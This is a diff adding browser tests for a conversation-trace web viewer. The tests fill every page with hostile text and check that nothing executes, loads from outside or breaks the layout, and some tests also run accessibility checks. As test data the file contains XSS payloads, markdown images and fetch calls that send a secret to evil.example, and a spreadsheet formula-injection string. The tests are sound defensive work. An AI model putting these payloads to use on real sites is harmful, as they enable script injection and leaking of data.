@@ -1,0 +1,165 @@
+"""Every page in a real browser, with hostile texts in every column: nothing is blocked, run, fetched or unreadable."""
+
+from __future__ import annotations
+
+import dataclasses
+from typing import Any
+from urllib.parse import quote
+
+import pytest
+
+from convotrace.model import Conversation, Failure, Payload
+
+pytestmark = pytest.mark.browser
+
+BIDI = "\u202egnp.exe\u202c \u2066left\u2069 zero\u200bwidth \u0007bell \x1b[31mred"
+SHORT = [
+    "<script>window.run = 1</script>",
+    '"><img src=x onerror="window.run = 1">',
+    "<svg onload=window.run=1></svg><iframe srcdoc='<script>parent.run=1</script>'>",
+    "[click](javascript:window.run=1) <javascript:window.run=1> [x](data:text/html,<script>run=1</script>)",
+    "![secret](https://evil.example/p?q=secret) ![a][x]\n\n[x]: https://evil.example/x.png",
+    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/y.css'</style>",
+    BIDI,
+    '</script></textarea></title></style>--><!-- <base href="https://evil.example/">',
+    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} <%= 7 %> {{constructor.constructor('window.run=1')()}}",
+    '=HYPERLINK("https://evil.example","x") +cmd|\' /C calc\'!A0 @SUM(1) -2+3',
+    '{"broken": [1, 2, {"a": "\\ud800',
+    "**[" * 40 + "deep" + "](x)**" * 40,
+    "> " * 80 + "quoted deep",
+]
+DEEP = '{"a":' * 400 + "1" + "}" * 400
+LINE = "x" * 1_000_000
+
+
+def _pages(conversation: Any) -> list[str]:
+    key = conversation.session.key
+    turn = f"s/{key}/t/{'a' * 32}"
+    spans = [f"{turn}?span={number * 16}" for number in "12345"]
+    return [
+        "", "rows", "beside", "?q=nothing", "?q=usr:x", f"?q={quote('tag:' + chr(34) + '<b>' + chr(34))}", "search",
+        "search?q=deep", f"s/{key}", f"s/{key}?zoom=cards", f"s/{key}?zoom=waterfall", turn, *spans,
+        f"s/{key}/t/{'b' * 32}", f"s/{key}/t/{'c' * 32}", f"s/{key}/t/{'b' * 32}/diff", f"compare?s={key}&s={key}",
+        "compare", "health",
+    ]  # fmt: skip
+
+
+def _walk(page: Any, site: str, addresses: list[str]) -> list[str]:
+    """Visit every address; return what was wrong."""
+    found = []
+    for address in addresses:
+        is_part = address in ("rows", "beside")  # of other pages, without styles or an icon
+        status = page.goto(f"{site}/{address}").status
+        page.wait_for_load_state()
+        wide = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
+        foreign = page.evaluate("document.querySelectorAll('iframe, base, style, [style], [onload], [onerror]').length")
+        if status >= 500 or (wide > 0 and not is_part) or foreign or page.evaluate("window.run"):
+            found.append((address, status, wide, foreign))
+        # What is fetched with an error status is told by the browser: a wrong filter is meant to have one.
+        page.complaints = [one for one in page.complaints if "status of 400" not in one and not is_part]
+        found += [(address, one) for one in page.complaints]
+        page.complaints.clear()
+    return found
+
+
+def test_no_hostile_text_in_any_column_of_any_page_runs_fetches_or_is_blocked(
+    browser, new_house, seed, serve_house, open_page
+):
+    conversation = seed("\n\n".join(SHORT))
+    house = new_house([conversation], service="<b>shop</b>", environment="<i>prod</i>", release='"><script>')
+    house.state |= {"warnings": [SHORT[0]], "last_error": SHORT[1], "dropped": {SHORT[2]: {SHORT[3]: 2}}}
+    site = serve_house(house)
+    page = open_page(browser, site, viewport={"width": 360, "height": 800})
+    found = _walk(page, site, _pages(conversation))
+    assert found == [], found
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("text", [*SHORT, DEEP], ids=range(len(SHORT) + 1))
+def test_each_hostile_text_alone(browser, new_house, seed, serve_house, open_page, text):
+    conversation = seed(text)
+    site = serve_house(new_house([conversation]))
+    assert _walk(open_page(browser, site), site, _pages(conversation)) == []
+
+
+@pytest.mark.slow
+def test_a_line_of_a_million_characters_is_shown_like_any_other(browser, new_house, seed, serve_house, open_page):
+    whole = seed("ok")
+    first, *rest = whole.traces
+    agent, call, tool, *others = first.spans
+    tool = dataclasses.replace(tool, result=LINE, error=Failure("E", LINE, LINE))
+    first = dataclasses.replace(
+        first, input=Payload(LINE, LINE), output=Payload(LINE), spans=(agent, call, tool, *others)
+    )
+    session = dataclasses.replace(whole.session, first_input=LINE, last_output=LINE, user_id=LINE)
+    conversation = Conversation(session, (first, *rest))
+    site = serve_house(new_house([conversation]))
+    assert _walk(open_page(browser, site), site, _pages(conversation)) == []
+
+
+PLANTED = {
+    "an inline style": "document.body.setAttribute('style', 'color: red')",
+    "an inline handler": "document.body.setAttribute('onclick', 'x()'); document.body.click()",
+    "markup from a string": "document.body.innerHTML = '<b>x</b>'",
+    "a script from a string": "setTimeout('x()')",
+    "a request to elsewhere": "fetch('http://evil.example/').catch(() => 0)",
+    "an image from elsewhere": "new Image().src = 'http://evil.example/x.png'",
+    "a frame": "document.body.append(document.createElement('iframe')); frames[0].location = 'http://evil.example'",
+}
+
+
+@pytest.mark.parametrize("script", PLANTED.values(), ids=PLANTED)
+def test_a_planted_violation_is_found(browser, new_house, serve_house, open_page, script):
+    page = open_page(browser, serve_house(new_house([])))
+    assert page.complaints == []
+    try:
+        page.evaluate(script)
+    except Exception as error:
+        page.complaints.append(str(error))
+    page.wait_for_timeout(100)
+    assert page.complaints
+
+
+@pytest.fixture
+def axe():
+    """Return what axe-core finds serious on a page."""
+    tool = pytest.importorskip("axe_playwright_python.sync_playwright", reason="axe is not installed").Axe()
+
+    def run(page: Any) -> list[str]:
+        found = tool.run(page).response["violations"]
+        return [
+            f"{one['id']} {node['html'][:160]}"
+            for one in found
+            if one["impact"] in ("serious", "critical")
+            for node in one["nodes"]
+        ]
+
+    return run
+
+
+@pytest.mark.parametrize(
+    ("theme", "width"),
+    [("light", 1440), *(pytest.param(*one, marks=pytest.mark.slow) for one in (("dark", 900), ("dark", 360)))],
+)
+def test_axe_finds_nothing_serious_on_any_page(browser, new_house, seed, serve_house, open_page, axe, theme, width):
+    conversations = [seed(f"Words of a person {number}") for number in range(3)]
+    house = new_house(conversations, service="shop", environment="prod", rights=("read", "annotate", "delete"))
+    house.state |= {"warnings": ["Look here."], "dropped": {"trace": {"queue_full": 7}}}
+    site = serve_house(house)
+    page = open_page(browser, site, color_scheme=theme, viewport={"width": width, "height": 900})
+    found = {}
+    for address in _pages(conversations[0]):
+        if address in ("rows", "beside"):  # parts of other pages
+            continue
+        page.goto(f"{site}/{address}")
+        page.wait_for_load_state()
+        if serious := axe(page):
+            found[address] = serious
+    assert "\n".join(f"{where}: {one}" for where, ones in found.items() for one in ones) == ""
+
+
+def test_axe_finds_what_is_planted(browser, new_house, seed, serve_house, open_page, axe):
+    page = open_page(browser, serve_house(new_house([seed("x")])))
+    page.evaluate("document.querySelector('[name=q]').removeAttribute('aria-label')")
+    page.evaluate("document.querySelector('[name=q]').removeAttribute('placeholder')")
+    assert any("label" in one for one in axe(page))
